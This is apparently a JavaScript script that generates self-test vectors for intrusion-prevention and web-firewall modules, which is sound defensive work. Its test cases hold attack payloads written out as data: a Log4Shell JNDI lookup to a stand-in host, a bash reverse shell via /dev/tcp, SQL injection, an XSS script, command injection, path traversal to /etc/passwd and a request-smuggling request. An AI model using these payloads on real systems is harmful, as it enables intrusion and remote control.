// Writes modules/<id>/selftest.json: batches that a module must answer with exactly these rules before it may run anywhere.
// Run by hand after changing what the modules find (after `tsc -b wasm`); the files are checked in, so that a build cannot
// agree with its own mistakes.
import { writeFile } from "node:fs/promises";
import { dirname, join } from "node:path";
import { fileURLToPath } from "node:url";
import { batchesOf, http, says, session } from "./dist/testing/harness.js";

const here = dirname(fileURLToPath(import.meta.url));
const get = (uri, headers) => http(`GET ${uri}`, headers);
const form = (body) => http("POST /login", { "Content-Type": "application/x-www-form-urlencoded" }, body);

const tests = {
  ips: [
    ["ordinary requests", [get("/search?q=O%27Reilly+union+station"), form("name=Jane&note=select+a+plan")], [], []],
    ["Log4Shell across a segment border", [get("/", { "X-Api-Version": "${jndi:ldap://evil.example/a}" })], [9000001], [180]],
    ["traversal, double-encoded, segments out of order", [get("/d?f=%252e%252e%252fetc/passwd")], [9000006], [10, 22], [2, 0, 1]],
    ["UNION in a form", [form("id=-1+union+select+1%2C2")], [9000013], [200]],
    ["reverse shell", ["bash -i >& /dev/tcp/10.0.0.9/4444 0>&1\n"], [9000008], [14]],
  ],
  waf: [
    [
      "ordinary requests",
      [get("/search?q=O%27Reilly+union+station"), form("name=D%27Angelo&note=select+a+plan+--+please")],
      [],
      [],
    ],
    ["SQL injection across a segment border", [get("/item?id=1%27%20or%20%271%27%3D%271")], [9100002], [19]],
    [
      "script in a form, segments out of order",
      [form("a=1&b=%3Cscript%3Ealert(1)%3C/script%3E")],
      [9100101],
      [60, 240],
      [1, 2, 0],
    ],
    [
      "command injection in JSON",
      [http("POST /api", { "Content-Type": "application/json" }, '{"host":"127.0.0.1; cat /etc/hostname"}')],
      [9100401],
      [],
    ],
    [
      "request smuggling",
      ["POST / HTTP/1.1\r\nHost: a\r\nContent-Length: 4\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n"],
      [9101101],
      [],
    ],
  ],
};

for (const [module, list] of Object.entries(tests)) {
  const vectors = list.map(([name, requests, rules, splitAt, order], i) => {
    const packets = requests.flatMap((request, k) =>
      session(says(request, splitAt.length > 0 ? { splitAt, ...(order ? { order } : {}) } : {}), {
        client: { ip: i % 2 === 0 ? "192.0.2.7" : "2001:db8::7", port: 40000 + k },
        server: { ip: i % 2 === 0 ? "198.51.100.5" : "2001:db8::5", port: 80 },
      }),
    );
    const [batch, ...more] = batchesOf(packets, 1000);
    if (batch === undefined || more.length > 0) throw new Error(`${name} is not one batch`);
    return { name, batch: Buffer.from(batch).toString("hex"), rules };
  });
  await writeFile(join(here, "modules", module, "selftest.json"), `${JSON.stringify(vectors, null, 2)}\n`);
}
